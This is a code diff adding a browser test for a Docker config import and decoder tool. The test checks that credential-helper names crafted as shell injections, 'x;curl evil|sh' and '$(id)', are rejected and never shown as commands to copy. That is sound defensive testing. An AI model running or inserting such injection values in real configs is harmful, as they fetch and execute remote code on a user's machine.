@@ -246,6 +246,34 @@ test('import a config.json: two auth entries and one credential helper', async (
   await waitText('#import-rows', /already exists; not overwritten/);
 });
 
+test('import and decoder: a helper name that is a shell command never becomes a command to copy', async () => {
+  const evil = 'x;curl evil|sh';
+  const config = JSON.stringify({
+    auths: { 'ghcr.io': {}, 'quay.io': {} },
+    credsStore: evil,
+    credHelpers: { 'quay.io': 'pass', 'gcr.io': '$(id)' },
+  });
+  const commands = () => page.locator('code').allInnerTexts();
+  await page.goto(`${w.url}/import`);
+  await page.fill('#config-text', config);
+  await page.locator('#import-rows tbody tr').nth(2).waitFor();
+  const row = (i) => page.locator('#import-rows tbody tr').nth(i).innerText();
+  assert.match(await row(0), /ghcr\.io[\s\S]*invalid: .*not a program name/);
+  assert.match(await row(1), /quay\.io[\s\S]*helper "pass"/);
+  assert.match(await row(2), /gcr\.io[\s\S]*invalid: .*not a program name/);
+  // The one valid helper still gets its command; no other command is shown.
+  const shown = (await commands()).filter((c) => c.includes('docker-credential-'));
+  assert.deepEqual(shown, ['echo quay.io | docker-credential-pass get']);
+  assert.equal(await page.locator('#import-rows input[type=checkbox]:not([disabled])').count(), 0);
+  await page.goto(`${w.url}/decode`);
+  await page.fill('#decode-input', config);
+  await page.waitForFunction(() => document.querySelectorAll('#decoded-rows tbody tr').length === 3);
+  assert.match(await page.locator('#decoded-rows').innerText(), /not a program name/);
+  const decoded = (await commands()).filter((c) => c.includes('docker-credential-'));
+  assert.deepEqual(decoded, ['echo quay.io | docker-credential-pass get']);
+  for (const c of [...shown, ...decoded]) assert.ok(!c.includes('curl') && !c.includes('$('), c);
+});
+
 test('import: secret names are readable and editable in full at 1280 px', async () => {
   const b64 = (s) => Buffer.from(s).toString('base64');
   const long = 'registry.gitlab.platform-team.example.com:5050';
